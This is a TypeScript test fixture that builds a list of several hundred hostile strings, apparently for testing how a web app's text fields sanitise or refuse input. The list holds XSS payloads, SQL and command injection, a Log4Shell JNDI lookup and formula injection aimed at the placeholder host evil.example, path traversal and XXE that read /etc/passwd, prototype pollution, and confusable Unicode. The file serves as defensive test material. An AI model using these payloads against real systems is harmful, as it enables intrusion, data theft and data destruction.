import { BAD_TEXTS } from '../../harness/bad-texts.js';

/** A text that somebody means harm with. */
export interface HostileString {
  text: string;
  /** Whether no text field may take it; the others are good text as long as nobody takes them for more. */
  isRefused: boolean;
}

/** `pwned()` counts in the page that shows it; a page that fetches from `evil.example` is seen, too. */
const SCRIPT = 'pwned()';
const ELSEWHERE = 'https://evil.example/x';

const TAGS = [
  'img',
  'svg',
  'video',
  'audio',
  'iframe',
  'object',
  'embed',
  'body',
  'input',
  'details',
  'math',
  'x',
];

const MARKUP: readonly ((tag: string) => string)[] = [
  (tag) => `<${tag} src=x onerror=${SCRIPT}>`,
  (tag) => `<${tag} src="${ELSEWHERE}" onload="${SCRIPT}">`,
  (tag) => `"><${tag} onload=${SCRIPT}>`,
  (tag) => `'><${tag} autofocus onfocus=${SCRIPT} tabindex=1>`,
  (tag) => `<${tag}/onmouseover=${SCRIPT}/style=position:fixed;inset:0>`,
  (tag) => `</bdi></p><${tag} src=${ELSEWHERE}><p>`,
  (tag) => `&lt;${tag} src=x onerror=${SCRIPT}&gt;`,
  (tag) => `<<${tag}> onpointerover=${SCRIPT}>`,
  (tag) => `<${tag} href=javascript:${SCRIPT}>go</${tag}>`,
  (tag) => `<!--><${tag} src=x onerror=${SCRIPT}>-->`,
];

const PLAIN: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<script src=${ELSEWHERE}></script>`,
  `</script><script>${SCRIPT}</script>`,
  `<ScRiPt >${SCRIPT}</sCrIpT>`,
  `<style>@import "${ELSEWHERE}"</style>`,
  `<link rel=stylesheet href=${ELSEWHERE}>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}">`,
  `<form action=${ELSEWHERE}><button>Sign in</button></form>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<a href="javascript:${SCRIPT}">Read on</a>`,
  `[Read on](javascript:${SCRIPT})`,
  `![x](${ELSEWHERE})`,
  `javascript:${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `\${${SCRIPT}}`,
  `#{${SCRIPT}}`,
  `<%= ${SCRIPT} %>`,
  `{{7*7}} \${7*7} #{7*7}`,
  `\${jndi:ldap://evil.example/a}`,
  `'; DROP TABLE items; --`,
  `' OR '1'='1`,
  `'); redis.call('FLUSHALL') --`,
  `*3 $3 SET $1 a $1 b`,
  `%s%s%s%n%x`,
  `%0d%0aSet-Cookie: a=b`,
  `\\r\\nSet-Cookie: a=b`,
  `../../../../etc/passwd`,
  `| cat /etc/passwd`,
  '`id`',
  '$(id)',
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("${ELSEWHERE}","x")`,
  '@SUM(1+1)*cmd',
  `]]><script>${SCRIPT}</script>`,
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":1}}',
  '"],["item",{"id":"forged"}]',
  '42/en,["item",{}]',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  'true',
  '0',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `<bellwire-ticker src=${ELSEWHERE} edition=en></bellwire-ticker>`,
  `<slot name=x onslotchange=${SCRIPT}></slot>`,
  'A\u200D\u200D\u200D\u200D\u200DB',
  'ﷺ﷽ ﷺ﷽',
  '\u2067עברית\u2069 and 3 of 12',
  '𝐁𝐑𝐄𝐀𝐊𝐈𝐍𝐆 раураl',
];

const CHARACTERS = [
  ...'\n\r\v\f\u0000\u0007\u0008\u001b\u007f\u0085\u009b\u2028\u2029',
  ...'\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069',
  ...'\u00AD\u180E\u200B\u2060\u2061\u2062\u2063\u2064\u206A\uFEFF\uFFF9\u0378\uFFFE',
  '\uD83D',
  '\uDE00',
  '\u{E0068}',
  '\u{E0001}',
  '\u{1FFFF}',
  '\u{F0000}',
  '\u0301'.repeat(5),
  '\u0336\u0317\u0350\u0301\u0302\u0303',
];

const AROUND: readonly ((character: string) => string)[] = [
  (character) => `One${character}Two`,
  (character) => `خبر${character}عاجل`,
  (character) => `<b title="${character}">${SCRIPT}</b>`,
  (character) => `x${character}x${character}x https://example.com`,
  (character) => `Not ${character} guilty`,
  (character) => `<script>pwned()</script>${character}<p>`,
  (character) => `首相が${character}辞任`,
];

/** Always the same: 500 and more, half of them no text field may take. */
export function hostileStrings(): HostileString[] {
  const refused = [
    ...Object.values(BAD_TEXTS),
    ...CHARACTERS.flatMap((one) => AROUND.map((put) => put(one))),
  ];
  const good = [...PLAIN, ...TAGS.flatMap((tag) => MARKUP.map((put) => put(tag)))];
  return [
    ...[...new Set(refused)].map((text) => ({ text, isRefused: true })),
    ...[...new Set(good)].map((text) => ({ text, isRefused: false })),
  ];
}
